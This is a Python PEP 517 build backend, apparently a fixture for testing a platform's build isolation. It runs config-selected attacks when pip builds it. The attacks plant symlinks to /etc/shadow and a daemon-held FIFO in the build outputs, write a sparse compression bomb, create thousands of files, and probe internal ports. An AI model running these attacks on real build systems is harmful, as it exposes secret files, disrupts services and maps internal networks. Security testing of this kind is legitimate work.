"""An in-tree PEP 517 build backend that attacks the build it runs in.

pip imports this module while the python buildpack installs
requirements.txt, so everything here runs inside the build container with
the build's user, before the build's outputs are collected. What it does is
chosen by the formation's config vars ATTACK, TARGET and BOMB_MB, which the
build sees as files in its ENV_DIR (/env). See ../README.md.
"""
import base64
import hashlib
import os
import socket
import sys
import threading
import zipfile

# Where build.sh collects the build's outputs (/tmp/out since builds write
# only their tmpfs; /out before).
OUT = "/tmp/out" if os.path.isdir("/tmp/out") else "/out"
APP = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))


def config(name, default=""):
    for d in ("/env",):
        try:
            with open(os.path.join(d, name)) as f:
                return f.read().strip()
        except OSError:
            pass
    return os.environ.get(name, default)


def say(msg):
    sys.stderr.write("evil: %s\n" % msg)
    sys.stderr.flush()


def plant_link(name):
    path = os.path.join(OUT, name)
    target = config("TARGET", "/etc/shadow")
    try:
        if os.path.lexists(path):
            os.remove(path)
        os.symlink(target, path)
        say("planted %s -> %s" % (path, target))
    except OSError as e:
        say("could not plant %s: %s" % (path, e))


def plant_fifo(name):
    path = os.path.join(OUT, name)
    try:
        if os.path.lexists(path):
            os.remove(path)
        os.mkfifo(path)
        say("planted FIFO %s" % path)
    except OSError as e:
        say("could not plant FIFO %s: %s" % (path, e))
        return
    # A detached reader drains the FIFO whenever the build writes it, so the
    # build itself finishes and leaves the FIFO behind for whoever reads the
    # outputs next. Its stdio must not hold pip's pipes open.
    if os.fork() != 0:
        return
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    devnull = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(devnull, fd)
    while True:
        try:
            with open(path, "rb") as f:
                while f.read(1 << 16):
                    pass
        except OSError:
            os._exit(0)


def bomb():
    mb = int(config("BOMB_MB", "200") or 200)
    path = os.path.join(APP, "bomb.bin")
    # Sparse: it costs no disk in the build, reads as zeros and compresses
    # about a thousand to one in the slug.
    with open(path, "wb") as f:
        f.truncate(mb << 20)
    say("wrote %d MiB of zeros to %s" % (mb, path))


def probe():
    """Tries a TCP connection to each of TARGETS (host:port, comma-separated)
    and fails the build with the results, which pip then shows."""
    results = {}

    def one(target):
        host, _, port = target.rpartition(":")
        try:
            with socket.create_connection((host, int(port)), timeout=3):
                results[target] = "connected"
        except ConnectionRefusedError:
            results[target] = "refused"
        except socket.timeout:
            results[target] = "timeout"
        except OSError as e:
            results[target] = "error:%s" % e.__class__.__name__

    targets = [t for t in config("TARGETS").split(",") if t]
    threads = [threading.Thread(target=one, args=(t,)) for t in targets]
    for th in threads:
        th.start()
    for th in threads:
        th.join()
    for t in targets:
        say("probe %s %s" % (t, results.get(t, "error:none")))
    raise SystemExit("evil: probe done")


def many():
    n = int(config("ENTRIES", "10000") or 10000)
    d = os.path.join(APP, "many")
    os.makedirs(d, exist_ok=True)
    for i in range(n):
        open(os.path.join(d, str(i)), "w").close()
    say("made %d empty files in %s" % (n, d))


def attack():
    what = config("ATTACK")
    if what == "link-failure":
        plant_link("failure")
        raise SystemExit("evil: failing the build on purpose")
    elif what == "link-buildpack":
        plant_link("buildpack")
    elif what == "link-slug":
        plant_link("slug.tgz")
    elif what == "fifo-slug":
        plant_fifo("slug.tgz")
    elif what == "bomb":
        bomb()
    elif what == "entries":
        many()
    elif what == "probe":
        probe()


def get_requires_for_build_wheel(config_settings=None):
    attack()
    return []


def _digest(data):
    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    name = "evil-0.1-py3-none-any.whl"
    files = {
        "evil_marker.py": b"",
        "evil-0.1.dist-info/METADATA": b"Metadata-Version: 2.1\nName: evil\nVersion: 0.1\n",
        "evil-0.1.dist-info/WHEEL": b"Wheel-Version: 1.0\nGenerator: evil\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = "".join("%s,%s,%d\n" % (p, _digest(d), len(d)) for p, d in files.items())
    record += "evil-0.1.dist-info/RECORD,,\n"
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as z:
        for p, d in files.items():
            z.writestr(p, d)
        z.writestr("evil-0.1.dist-info/RECORD", record)
    return name
